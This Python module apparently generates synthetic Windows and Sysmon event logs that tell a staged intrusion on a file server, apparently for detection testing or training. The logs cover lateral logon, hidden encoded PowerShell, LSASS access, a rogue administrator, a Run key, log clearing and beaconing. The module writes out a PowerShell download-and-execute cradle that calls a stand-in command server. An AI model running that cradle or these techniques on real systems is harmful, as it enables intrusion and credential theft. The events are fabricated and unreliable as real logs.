"""The story on the file server: logon from the web server, encoded PowerShell, LSASS, a new administrator, beacons."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from samples.generate import story
from samples.generate.beacon import beacons
from samples.generate.clock import after
from samples.generate.windows_background import connection
from samples.generate.windows_event import POWERSHELL, WindowsEvent, guid, sysmon
from samples.generate.windows_logon import (
    ADMINISTRATORS,
    Logon,
    account_made,
    failed,
    log_cleared,
    member_added,
    privileged,
    succeeded,
)
from samples.generate.windows_process import SYSTEM32, Process, audited, created

_HOST = story.FILE_SERVER
_ABUSED = "svc_deploy"
_USER = f"{story.WINDOWS_DOMAIN}\\{_ABUSED}"
_POWERSHELL = f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe"
_IMPLANT = "C:\\ProgramData\\spool\\spoolupd.exe"
_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('http://{story.COMMAND_SERVER}/u.ps1')"


def attack(random: Random) -> list[WindowsEvent]:
    """The story's events."""
    return [*_entry(random), *_execution(random), *_credentials(random), *_persistence(random), *_beacons(random)]


def _entry(random: Random) -> list[WindowsEvent]:
    logon = Logon(_ABUSED, story.WEB.address, 3, "NTLM", "WEB01")
    tried = [failed(after(story.LATERAL_LOGON, -seconds), _HOST, logon, random) for seconds in (95, 61, 30)]
    entered = succeeded(story.LATERAL_LOGON, _HOST, logon, random)
    return [*tried, entered, privileged(story.LATERAL_LOGON, _HOST, _ABUSED, random)]


def _execution(random: Random) -> list[WindowsEvent]:
    encoded = b64encode(_SCRIPT.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoP -W Hidden -EncodedCommand {encoded}"
    process = Process(_POWERSHELL, command, f"{SYSTEM32}\\wsmprovhost.exe", _USER, "High")
    script = {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": _SCRIPT, "ScriptBlockId": guid(random)}
    moment = story.ENCODED_POWERSHELL
    return [
        created(moment, _HOST, process, random),
        audited(moment, _HOST, process, random),
        WindowsEvent(after(moment, 1), _HOST, POWERSHELL, 4104, {**script, "Path": ""}),
        sysmon(after(moment, 9), _HOST, 11, {"Image": _POWERSHELL, "TargetFilename": _IMPLANT, "User": _USER}),
        created(after(moment, 12), _HOST, Process(_IMPLANT, _IMPLANT, _POWERSHELL, _USER, "High"), random),
    ]


def _credentials(random: Random) -> list[WindowsEvent]:
    data = {
        "SourceProcessGUID": guid(random),
        "SourceProcessId": "7316",
        "SourceThreadId": "7320",
        "SourceImage": _IMPLANT,
        "TargetProcessGUID": guid(random),
        "TargetProcessId": "688",
        "TargetImage": f"{SYSTEM32}\\lsass.exe",
        "GrantedAccess": "0x1410",
        "CallTrace": f"{SYSTEM32}\\ntdll.dll+9d4c4|{SYSTEM32}\\dbgcore.DLL+6a3e|UNKNOWN(000001D2A81F0041)",
        "SourceUser": _USER,
        "TargetUser": "NT AUTHORITY\\SYSTEM",
    }
    return [sysmon(story.MEMORY_ACCESS, _HOST, 10, data)]


def _persistence(random: Random) -> list[WindowsEvent]:
    moment = story.ROGUE_ACCOUNT
    run_key = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SpoolUpdate"
    value = {"EventType": "SetValue", "ProcessId": "7316", "Image": _IMPLANT, "TargetObject": run_key}
    net = Process(f"{SYSTEM32}\\net.exe", f"net user {story.ROGUE_ADMINISTRATOR} /add", _IMPLANT, _USER, "High")
    return [
        created(after(moment, -1), _HOST, net, random),
        account_made(moment, _HOST, story.ROGUE_ADMINISTRATOR, _ABUSED),
        member_added(after(moment, 8), _HOST, ADMINISTRATORS, _ABUSED),
        sysmon(after(moment, 60), _HOST, 13, {**value, "Details": _IMPLANT, "User": _USER}),
        log_cleared(story.LOG_CLEARED, _HOST, _ABUSED),
    ]


def _beacons(random: Random) -> list[WindowsEvent]:
    events: list[WindowsEvent] = []
    caller = {"ProcessGuid": guid(random), "ProcessId": "7316", "Image": _IMPLANT}
    for beacon in beacons():
        answer = {"QueryName": beacon.name, "QueryStatus": "0", "QueryResults": f"::ffff:{story.COMMAND_SERVER};"}
        events.append(sysmon(beacon.moment, _HOST, 22, {**caller, **answer, "User": _USER}))
        events.append(connection(after(beacon.moment, 0.3), _HOST, caller, (story.COMMAND_SERVER, 443)))
    return events
